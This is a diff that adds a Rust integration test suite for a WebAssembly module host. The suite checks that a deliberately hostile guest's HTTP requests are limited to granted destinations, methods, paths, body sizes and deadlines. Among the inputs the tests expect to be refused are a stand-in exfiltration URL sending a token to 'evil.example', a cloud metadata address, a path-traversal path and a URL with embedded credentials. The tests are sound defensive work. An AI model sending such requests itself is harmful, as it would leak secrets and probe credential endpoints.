@@ -1,0 +1,262 @@
+//! A module's outgoing HTTP, end to end: the hostile guest's `fetch` tool
+//! sends through `wasi:http`, the host checks each request against the
+//! grants, and permitted ones leave through [`ProxyEgress`] to a real server
+//! on loopback. Every refusal is asserted with its error kind and with the
+//! server's record that nothing arrived.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+#[path = "support/guests.rs"]
+mod guests;
+#[path = "support/server.rs"]
+mod server;
+
+use std::net::SocketAddr;
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use hardshell_module_host::{
+    BodyLimits, CallError, Denial, Grants, HostGrant, ModuleHost, Prepared, ProxyAddress,
+    ProxyEgress,
+};
+
+fn host_through(proxy: ProxyAddress) -> (ModuleHost, Prepared) {
+    let host = ModuleHost::new(Arc::new(ProxyEgress::new(proxy)), BodyLimits::default())
+        .expect("the module host starts");
+    let hostile = host
+        .prepare(&guests::guest("hostile"))
+        .expect("the hostile guest prepares");
+    (host, hostile)
+}
+
+fn granting(address: SocketAddr, path_prefix: Option<&str>, methods: Option<&[&str]>) -> Grants {
+    let mut grants = Grants::compute_only(64, 5_000);
+    grants.hosts.push(HostGrant {
+        scheme: "http".into(),
+        host: address.ip().to_string(),
+        port: address.port(),
+        methods: methods.map(|list| list.iter().map(|m| m.to_string()).collect()),
+        path_prefix: path_prefix.map(str::to_string),
+    });
+    grants
+}
+
+async fn fetch(
+    host: &ModuleHost,
+    module: &Prepared,
+    grants: &Grants,
+    method: &str,
+    url: &str,
+    body_bytes: usize,
+) -> Result<String, CallError> {
+    let body = "b".repeat(body_bytes);
+    let arguments = format!(r#"{{"method":"{method}","url":"{url}","body":"{body}"}}"#);
+    host.call(module, grants, "fetch", &arguments).await
+}
+
+#[tokio::test]
+async fn a_declared_host_is_reached_and_others_are_refused() {
+    let (address, seen) = server::start_tcp().await;
+    let (host, module) = host_through(ProxyAddress::Tcp(address));
+    let grants = granting(address, Some("/api"), Some(&["GET"]));
+
+    let allowed = format!("http://{address}/api/search?q=1");
+    let answer = fetch(&host, &module, &grants, "GET", &allowed, 0).await;
+    assert_eq!(
+        answer.ok().as_deref(),
+        Some("200 hello GET /api/search body=0")
+    );
+    // The proxy saw the absolute form, as the broker expects it.
+    assert_eq!(server::seen(&seen), vec![format!("GET {allowed}")]);
+
+    let other_port = SocketAddr::new(address.ip(), address.port().wrapping_add(1));
+    let refused = [
+        (
+            "GET",
+            "http://localhost:{port}/api/x".replace("{port}", &address.port().to_string()),
+        ),
+        (
+            "GET",
+            "http://169.254.169.254/latest/meta-data/".to_string(),
+        ),
+        ("GET", format!("http://{other_port}/api/x")),
+        ("GET", format!("https://{address}/api/x")),
+        ("GET", format!("http://{address}/admin")),
+        ("GET", format!("http://{address}/api/../admin")),
+        ("POST", format!("http://{address}/api/x")),
+        ("GET", format!("http://user:pw@{address}/api/x")),
+    ];
+    for (method, url) in refused {
+        let error = fetch(&host, &module, &grants, method, &url, 0)
+            .await
+            .expect_err("an undeclared destination");
+        assert!(
+            matches!(error, CallError::RequestDenied(_)),
+            "{method} {url}: {error:?}"
+        );
+        // A good request right after the refused one still works.
+        let again = fetch(&host, &module, &grants, "GET", &allowed, 0).await;
+        assert!(again.is_ok(), "after {method} {url}: {again:?}");
+    }
+    let reached: Vec<String> = server::seen(&seen)
+        .into_iter()
+        .filter(|line| line != &format!("GET {allowed}"))
+        .collect();
+    assert_eq!(
+        reached,
+        Vec::<String>::new(),
+        "refused requests reached the proxy"
+    );
+}
+
+#[tokio::test]
+async fn the_denial_names_the_destination_not_the_path() {
+    let (address, _seen) = server::start_tcp().await;
+    let (host, module) = host_through(ProxyAddress::Tcp(address));
+    let grants = granting(address, None, None);
+    let error = fetch(
+        &host,
+        &module,
+        &grants,
+        "GET",
+        "http://evil.example/steal?token=s3cret",
+        0,
+    )
+    .await
+    .expect_err("undeclared");
+    assert!(
+        matches!(&error, CallError::RequestDenied(Denial::HostNotGranted { host, port: 80, .. }) if host == "evil.example"),
+        "{error:?}"
+    );
+    assert!(!error.to_string().contains("s3cret"), "{error}");
+}
+
+#[tokio::test]
+async fn the_broker_is_reached_over_a_unix_socket() {
+    let directory = tempfile::tempdir().expect("tempdir");
+    let socket = directory.path().join("broker.sock");
+    let seen = server::start_unix(&socket).await;
+    let (host, module) = host_through(ProxyAddress::Unix(socket));
+    let destination: SocketAddr = "127.0.0.1:8080".parse().expect("address");
+    let grants = granting(destination, None, None);
+    let answer = fetch(
+        &host,
+        &module,
+        &grants,
+        "POST",
+        "http://127.0.0.1:8080/submit",
+        10,
+    )
+    .await;
+    assert_eq!(
+        answer.ok().as_deref(),
+        Some("200 hello POST /submit body=10")
+    );
+    assert_eq!(
+        server::seen(&seen),
+        vec!["POST http://127.0.0.1:8080/submit".to_string()]
+    );
+}
+
+#[tokio::test]
+async fn bodies_past_their_limits_are_refused() {
+    let (address, _seen) = server::start_tcp().await;
+    let (host, module) = host_through(ProxyAddress::Tcp(address));
+    let grants = granting(address, None, None);
+
+    let big_response = format!("http://{address}/big");
+    let error = fetch(&host, &module, &grants, "GET", &big_response, 0)
+        .await
+        .expect_err("the response is past 4 MiB");
+    assert!(
+        matches!(&error, CallError::Tool { message } if message.contains("HttpResponseBodySize")),
+        "{error:?}"
+    );
+
+    let echo = format!("http://{address}/echo");
+    let error = fetch(&host, &module, &grants, "POST", &echo, (1 << 20) + 1)
+        .await
+        .expect_err("the request is past 1 MiB");
+    assert!(
+        matches!(&error, CallError::Tool { message } if message.contains("HttpRequestBodySize")),
+        "{error:?}"
+    );
+    let answer = fetch(&host, &module, &grants, "POST", &echo, 1 << 20).await;
+    assert_eq!(
+        answer.ok().as_deref(),
+        Some("200 hello POST /echo body=1048576")
+    );
+}
+
+#[tokio::test]
+async fn a_module_waiting_on_a_slow_destination_is_stopped_at_its_deadline() {
+    let (address, _seen) = server::start_tcp().await;
+    let (host, module) = host_through(ProxyAddress::Tcp(address));
+    let mut grants = granting(address, None, None);
+    grants.timeout_ms = 500;
+    let started = Instant::now();
+    let error = fetch(
+        &host,
+        &module,
+        &grants,
+        "GET",
+        &format!("http://{address}/hang"),
+        0,
+    )
+    .await
+    .expect_err("the destination never answers");
+    assert!(
+        matches!(error, CallError::Timeout { timeout_ms: 500 }),
+        "{error:?}"
+    );
+    assert!(
+        started.elapsed() < Duration::from_secs(3),
+        "{:?}",
+        started.elapsed()
+    );
+}
+
+#[tokio::test]
+async fn no_grants_reach_nowhere() {
+    let (address, seen) = server::start_tcp().await;
+    let (host, module) = host_through(ProxyAddress::Tcp(address));
+    let grants = Grants::compute_only(64, 5_000);
+    let error = fetch(
+        &host,
+        &module,
+        &grants,
+        "GET",
+        &format!("http://{address}/"),
+        0,
+    )
+    .await
+    .expect_err("nothing granted");
+    assert!(matches!(error, CallError::RequestDenied(_)), "{error:?}");
+    assert!(server::seen(&seen).is_empty());
+}
+
+#[tokio::test]
+async fn https_is_not_sent_through_the_proxy_egress_yet() {
+    let (address, seen) = server::start_tcp().await;
+    let (host, module) = host_through(ProxyAddress::Tcp(address));
+    let mut grants = granting(address, None, None);
+    grants.hosts[0].scheme = "https".into();
+    let error = fetch(
+        &host,
+        &module,
+        &grants,
+        "GET",
+        &format!("https://{address}/x"),
+        0,
+    )
+    .await
+    .expect_err("https needs CONNECT and TLS, which ProxyEgress does not speak");
+    assert!(
+        matches!(&error, CallError::Tool { message } if message.contains("HttpRequestDenied")),
+        "{error:?}"
+    );
+    assert!(
+        server::seen(&seen).is_empty(),
+        "nothing may reach the proxy"
+    );
+}
